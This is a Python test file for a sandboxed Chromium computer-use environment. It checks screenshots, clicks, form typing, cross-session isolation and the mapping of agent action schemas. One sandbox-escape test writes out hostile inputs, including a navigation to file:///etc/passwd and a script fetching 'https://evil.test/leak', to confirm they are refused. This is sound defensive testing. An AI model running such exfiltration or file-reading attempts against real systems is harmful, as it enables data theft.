"""The computer interface in real Chromium: pixels show the state, pointer actions act like tool calls.

Skips, saying why, where no Chromium is installed (`.ci/run` installs Debian's).
"""

from __future__ import annotations

import base64
import contextlib
import struct

import pytest

from compoworld.core.environment import Environment
from compoworld.interfaces.computer import (
    ORIGIN,
    BrowserPool,
    chromium_path,
    from_anthropic,
    from_openai,
    from_uitars,
    to_mcp_content,
)

pytest.importorskip("playwright.async_api")
pytestmark = pytest.mark.skipif(
    chromium_path() is None, reason="no Chromium (apt-get install chromium, or set COMPOWORLD_CHROMIUM)"
)
SERVICES = ["browser", "chat", "computer", "email", "helpdesk"]


@pytest.fixture(scope="module")
def pool():
    p = BrowserPool()
    yield p
    p.close()


def make(pool: BrowserPool, seed: int = 6) -> Environment:
    env = Environment(SERVICES, seed=seed, size="small")
    env.services["computer"].pool = pool
    return env


def shot(env: Environment, tool: str = "computer__screenshot", **args) -> dict:
    r = env.call(tool, {**args, "marks": True})
    assert r["success"], r
    return r["data"]


def mark(obs: dict, label: str, role: str | None = None) -> dict:
    found = [m for m in obs["marks"] if m["label"] == label and (role is None or m["role"] == role)]
    assert found, (label, [m["label"] for m in obs["marks"]])
    return found[0]


def click(env: Environment, obs: dict, label: str, role: str | None = None) -> dict:
    m = mark(obs, label, role)
    return shot(env, "computer__click", x=m["x"], y=m["y"])


def png_size(b64: str) -> tuple[int, int]:
    raw = base64.b64decode(b64)
    assert raw[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", raw[16:24])


def test_a_screenshot_shows_the_state(pool) -> None:
    env = make(pool)
    home = shot(env)
    assert png_size(home["data"]) == (1280, 800) and home["url"] == "/"
    chans = click(env, home, "Chat")
    assert chans["url"] == "/channels"
    names = sorted(
        f"#{c['name']}" for c in env.services["chat"].table("channels").values() if not c.get("is_im")
    )
    on_screen = [m["label"] for m in chans["marks"] if m["role"] == "link" and m["label"].startswith("#")]
    assert on_screen and set(on_screen) <= set(names)
    # a change made over MCP shows once the page is loaded again, and only then
    chat = env.services["chat"]
    cid = sorted(chat.table("channels"))[0]
    page = shot(env, "computer__click", **{k: mark(chans, on_screen[0])[k] for k in ("x", "y")})
    cid = page["url"].rsplit("/", 1)[1]
    assert env.call("chat__slack_user_post_message", {"channel_id": cid, "text": "Seen on screen 9931"})[
        "success"
    ]
    stale = shot(env)
    assert stale["data"] == page["data"]  # the page was not reloaded: a browser shows what it loaded
    fresh = shot(env, "computer__key", combo="F5")
    assert fresh["data"] != page["data"]
    # pages reached by actions are recorded (a screenshot only looks: the home page it opened is not)
    assert set(env.services["computer"].table("visits")) == {"/channels", page["url"]}


def test_clicks_at_an_elements_position_change_state_exactly_as_the_tool_call(pool) -> None:
    gui, mcp = make(pool), make(pool)
    home = shot(gui)
    tickets = click(gui, home, "Tickets")
    first = next(m for m in tickets["marks"] if m["role"] == "link" and m["label"].startswith("#"))
    tid = first["label"].split()[0][1:]
    page = shot(gui, "computer__click", x=first["x"], y=first["y"])
    assert page["url"] == f"/tickets/{tid}"
    dialog = click(gui, page, "Close ticket")  # the one-click action asks first
    done = click(gui, dialog, "Confirm Close ticket")
    assert done["url"] == f"/tickets/{tid}"
    r = mcp.call("helpdesk__freshdesk_update_ticket", {"ticket_id": int(tid), "status": 5})
    assert r["success"]
    assert gui.services["helpdesk"].snapshot() == mcp.services["helpdesk"].snapshot()
    assert gui.services["helpdesk"].table("tickets")[tid]["status"] == 5


def test_typing_into_a_form_and_submitting_writes_the_record(pool) -> None:
    env = make(pool)
    chans = click(env, shot(env), "Chat")
    for m in [m for m in chans["marks"] if m["role"] == "link" and m["label"].startswith("#")]:
        page = shot(env, "computer__click", x=m["x"], y=m["y"])
        box = mark(page, "Message", "textbox")
        shot(env, "computer__click", x=box["x"], y=box["y"])
        typed = shot(env, "computer__type", text="Typed on the screen 5521")
        after = click(env, typed, "Post")
        found = env.call("chat__slack_user_search_messages", {"query": "5521"})
        if found["success"] and "Typed on the screen 5521" in repr(found["data"]):
            assert after["url"] == page["url"]
            return
        shot(env, "computer__key", combo="alt+Left")  # a read-only channel: try the next
    pytest.fail("no channel took the post")


def test_composing_a_mail_on_the_screen_sends_it_as_the_tool_would(pool) -> None:
    env = make(pool)
    inbox = click(env, shot(env), "Mail")
    while mark_or_none(inbox, "Compose") is None:  # the list runs on: its last page has the button
        nxt = max((m for m in inbox["marks"] if m["label"].isdigit()), key=lambda m: int(m["label"]))
        inbox = shot(env, "computer__click", x=nxt["x"], y=nxt["y"])
    form = click(env, inbox, "Compose")
    assert form["url"] == "/inbox/compose"
    for label, text in (
        ("To", "dana@example.com, lee@example.com"),
        ("Subject", "Screen 8812"),
        ("Body", "Hi"),
    ):
        box = mark(form, label, "textbox")
        shot(env, "computer__click", x=box["x"], y=box["y"])
        form = shot(env, "computer__type", text=text)
    sent = click(env, form, "Send")
    assert sent["url"] == "/inbox"
    found = [m for m in env.services["email"].table("messages").values() if m.get("subject") == "Screen 8812"]
    assert len(found) == 1 and found[0]["to"] == ["dana@example.com", "lee@example.com"]


def test_the_date_and_time_pickers_book_the_event(pool) -> None:
    env = Environment(["browser", "calendar", "computer"], seed=6, size="small")
    env.services["computer"].pool = pool
    cal = click(env, shot(env), "Calendar")
    form = click(env, cal, "New event")
    assert form["url"] == "/calendar/new"
    # Chromium's own pickers: the date's segments take digits (en-US: month, day, year), the time's too
    for label, keys in (
        ("Title", "Pickers 3391"),
        ("Date (YYYY-MM-DD)", "03052026"),
        ("Starts (HH:MM)", "1000AM"),
        ("Ends (HH:MM)", "1030AM"),
    ):
        box = mark(form, label, "textbox")
        shot(env, "computer__click", x=box["box"][0] + 8, y=box["y"])  # the first segment
        form = shot(env, "computer__type", text=keys)
    done = click(env, form, "Save event")
    assert done["url"] == "/calendar"
    ev = [e for e in env.services["calendar"].table("events").values() if e.get("summary") == "Pickers 3391"]
    assert len(ev) == 1, ev
    start = ev[0]["start"].get("dateTime") if isinstance(ev[0]["start"], dict) else ev[0]["start"]
    assert start.startswith("2026-03-05T10:00")


def mark_or_none(obs: dict, label: str) -> dict | None:
    return next((m for m in obs["marks"] if m["label"] == label), None)


def test_the_same_state_gives_byte_identical_screenshots(pool) -> None:
    cold = BrowserPool(cache_entries=0)  # every screenshot rendered (no cache)
    try:
        a, b = make(cold), make(cold)
        sa, sb = shot(a), shot(b)
        assert sa["data"] == sb["data"]
        ta, tb = click(a, sa, "Tickets"), click(b, sb, "Tickets")
        assert ta["data"] == tb["data"] and cold.renders >= 4
        a.reset()  # the screen is reset with the environment
        assert shot(a)["data"] == sa["data"]
    finally:
        cold.close()
    # the cached path gives the same bytes, and a repeated screenshot does not render
    c = make(pool)
    first = shot(c)
    n = pool.renders
    assert shot(c)["data"] == first["data"] == sa["data"] and pool.renders == n


def test_sessions_share_one_chromium_but_never_each_others_pages_or_state(pool) -> None:
    import threading

    envs = [make(pool), make(pool)]
    out: dict[int, dict] = {}

    def work(i: int) -> None:  # both at once, from their own threads, on the same browser process
        env = envs[i]
        chans = click(env, shot(env), "Chat")
        row = next(m for m in chans["marks"] if m["role"] == "link" and m["label"].startswith("#"))
        page = shot(env, "computer__click", x=row["x"], y=row["y"])
        box = mark(page, "Message", "textbox")
        shot(env, "computer__click", x=box["x"], y=box["y"])
        typed = shot(env, "computer__type", text=f"Session {i} wrote this 7310")
        out[i] = click(env, typed, "Post")

    threads = [threading.Thread(target=work, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert set(out) == {0, 1}
    for i, env in enumerate(envs):
        texts = [m["text"] for m in env.services["chat"].table("messages").values() if "7310" in m["text"]]
        assert texts == [f"Session {i} wrote this 7310"], texts  # each session's post, in its own state only


def test_navigation_to_other_origins_files_and_popups_is_refused(pool) -> None:
    env = make(pool)
    shot(env)
    scr = env.services["computer"].screen()

    async def escape(url: str) -> str:
        try:
            await scr.page.goto(url)
            out = "loaded"
        except Exception as e:  # noqa: BLE001 - the refusal is the point
            out = type(e).__name__
        await scr.page.wait_for_timeout(300)  # let the refused navigation land on its error page
        await scr._settle()  # ... and the screen go back to its app
        return out

    async def script(js: str) -> str:
        with contextlib.suppress(Exception):  # the navigation it starts can end the script's context
            await scr.page.evaluate(js)
        await scr.page.wait_for_timeout(300)
        await scr._settle()
        return scr.page.url

    for url in ("https://example.com/", "http://127.0.0.1:9/", "file:///etc/passwd"):
        assert scr.run(escape(url)) != "loaded" or not scr.page.url.startswith(url[:8])
    assert any("example.com" in u for u in scr.refused) and any("127.0.0.1" in u for u in scr.refused)
    assert scr.run(script("location.href = 'https://evil.test/x'")).startswith(ORIGIN)
    assert scr.run(script("fetch('https://evil.test/leak').catch(() => 0); 1")).startswith(ORIGIN)
    assert sum("evil.test" in u for u in scr.refused) >= 2
    # the screen still works, on its own app
    assert shot(env)["url"].startswith("/")


def test_harness_schemas_map_one_to_one_and_mcp_gets_an_image_block(pool) -> None:
    assert from_openai({"type": "click", "x": 10, "y": 20, "button": "right"}) == (
        "computer__click",
        {"x": 10, "y": 20, "button": "right"},
    )
    assert from_openai({"type": "keypress", "keys": ["CTRL", "A"]}) == ("computer__key", {"combo": "CTRL+A"})
    assert from_openai({"type": "scroll", "x": 5, "y": 6, "scroll_x": 0, "scroll_y": 300})[1]["dy"] == 300
    assert from_anthropic({"action": "left_click", "coordinate": [3, 4]}) == (
        "computer__click",
        {"x": 3, "y": 4, "button": "left"},
    )
    assert from_anthropic(
        {"action": "scroll", "coordinate": [1, 2], "scroll_direction": "up", "scroll_amount": 2}
    )[1] == {"x": 1, "y": 2, "dx": 0, "dy": -200}
    assert from_anthropic(
        {"action": "left_click_drag", "start_coordinate": [1, 2], "coordinate": [3, 4]}
    ) == (
        "computer__drag",
        {"path": [[1, 2], [3, 4]]},
    )
    assert from_uitars("click(start_box='(100,200)')") == (
        "computer__click",
        {"x": 100, "y": 200, "button": "left"},
    )
    assert from_uitars("type(content='hi\\n')") == ("computer__type", {"text": "hi\n"})
    assert from_uitars("hotkey(key='ctrl c')") == ("computer__key", {"combo": "ctrl+c"})
    assert from_uitars("click(start_box='(500,500)')", scale=None)[1] == {
        "x": 640,
        "y": 400,
        "button": "left",
    }
    with pytest.raises(ValueError, match="unknown"):
        from_openai({"type": "teleport"})
    env = make(pool)
    tool, args = from_anthropic({"action": "screenshot"})
    blocks = to_mcp_content(env.call(tool, args))
    assert blocks[0]["type"] == "image" and blocks[0]["mimeType"] == "image/png"
    assert png_size(blocks[0]["data"]) == (1280, 800)
    bad = env.call("computer__click", {"x": 5000, "y": 1})
    assert (
        not bad["success"]
        and bad["error"]["code"] == 400
        and "off the 1280x800 screen" in bad["error"]["message"]
    )
